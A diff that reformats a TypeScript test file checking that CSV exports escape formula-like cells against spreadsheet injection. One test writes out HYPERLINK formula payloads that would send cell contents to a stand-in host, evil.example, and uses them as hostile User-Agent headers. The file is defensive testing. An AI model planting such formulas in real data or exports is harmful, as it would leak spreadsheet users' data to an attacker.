@@ -47,7 +47,8 @@ function parseCsv(text: string): string[][] {
         field += text[i++];
       }
       const after = text[i];
-      if (after !== undefined && after !== ',' && after !== '\n' && after !== '\r') throw new Error(`text after a closing quote at ${i}`);
+      if (after !== undefined && after !== ',' && after !== '\n' && after !== '\r')
+        throw new Error(`text after a closing quote at ${i}`);
       continue;
     }
     const c = text[i]!;
@@ -86,7 +87,11 @@ interface Change {
   new_value: unknown;
 }
 
-async function insertRecord(sql: Sql, source: string, record: { ci: string; name: string; namespace: string | null; type: string; at: string; changes: Change[] }) {
+async function insertRecord(
+  sql: Sql,
+  source: string,
+  record: { ci: string; name: string; namespace: string | null; type: string; at: string; changes: Change[] },
+) {
   await sql`
     insert into change_records (tenant_id, ci_id, source_id, scope_id, ci_name, ci_namespace, ci_type, change_type, changed_at, changes, changed_fields)
     values (${DEFAULT_TENANT_ID}, ${record.ci}, ${source}, null, ${record.name}, ${record.namespace}, ${record.type}, 'UPDATED',
@@ -165,7 +170,14 @@ describe('CSV exports: formula-like cells are escaped', () => {
       { field: 'raw_data.metadata.annotations.full', old_value: '＝SUM(A1)', new_value: "'already quoted" },
       { field: 'raw_data.spec.ports', old_value: [], new_value: [{ port: -80, name: '=http' }] },
     ];
-    await insertRecord(app.current.sql, source, { ci, name: 'web-1', namespace: 'default', type: 'k8s.pod', at: '2026-01-01T10:00:00.123456Z', changes });
+    await insertRecord(app.current.sql, source, {
+      ci,
+      name: 'web-1',
+      namespace: 'default',
+      type: 'k8s.pod',
+      at: '2026-01-01T10:00:00.123456Z',
+      changes,
+    });
 
     const rows = table(await download('/api/v1/changes'));
     expect(rows.map((row) => [row.field, row.old_value, row.new_value])).to.deep.equal([
@@ -179,13 +191,21 @@ describe('CSV exports: formula-like cells are escaped', () => {
       ['raw_data.metadata.annotations.full', "'＝SUM(A1)", "'already quoted"],
       ['raw_data.spec.ports', '[]', '[{"name":"=http","port":-80}]'],
     ]);
-    expect(rows[0]).to.include({ ci_id: ci, ci_name: 'web-1', ci_namespace: 'default', ci_type: 'k8s.pod', changed_at: '2026-01-01T10:00:00.123Z' });
+    expect(rows[0]).to.include({
+      ci_id: ci,
+      ci_name: 'web-1',
+      ci_namespace: 'default',
+      ci_type: 'k8s.pod',
+      changed_at: '2026-01-01T10:00:00.123Z',
+    });
   });
 
   it('GET /api/v1/audit-events prefixes a hostile User-Agent of an anonymous client and names starting with TAB or CR', async () => {
     const agents = ['=', '+', '-', '@'].map((prefix) => `${prefix}HYPERLINK("https://evil.example/?leak="&A1,"open")`);
     for (const agent of [...agents, '-1', 'curl/8.5.0']) {
-      const refused = await app.current.request('GET', '/api/v1/configuration-items', { headers: { 'user-agent': agent } });
+      const refused = await app.current.request('GET', '/api/v1/configuration-items', {
+        headers: { 'user-agent': agent },
+      });
       expect(refused.status, agent).to.equal(401);
     }
     // HTTP trims a header's leading TAB and refuses a CR: those reach the log through names
@@ -235,13 +255,18 @@ describe('CSV cells', () => {
 
   it('parse back to the value, with a quote before formula-like text', () => {
     fc.assert(
-      fc.property(fc.array(fc.oneof(fc.string({ unit: 'binary' }), fc.integer()), { minLength: 1, maxLength: 10 }), (values) => {
-        // a NUL cannot be cut apart at: those cells are formatted one by one
-        const [parsed] = parseCsv(`${csvCells(values).join(',')}\n`);
-        expect(parsed).to.deep.equal(
-          values.map((v) => (typeof v === 'string' && /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(v) ? `'${v}` : String(v))),
-        );
-      }),
+      fc.property(
+        fc.array(fc.oneof(fc.string({ unit: 'binary' }), fc.integer()), { minLength: 1, maxLength: 10 }),
+        (values) => {
+          // a NUL cannot be cut apart at: those cells are formatted one by one
+          const [parsed] = parseCsv(`${csvCells(values).join(',')}\n`);
+          expect(parsed).to.deep.equal(
+            values.map((v) =>
+              typeof v === 'string' && /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(v) ? `'${v}` : String(v),
+            ),
+          );
+        },
+      ),
       { numRuns: 500 },
     );
   });
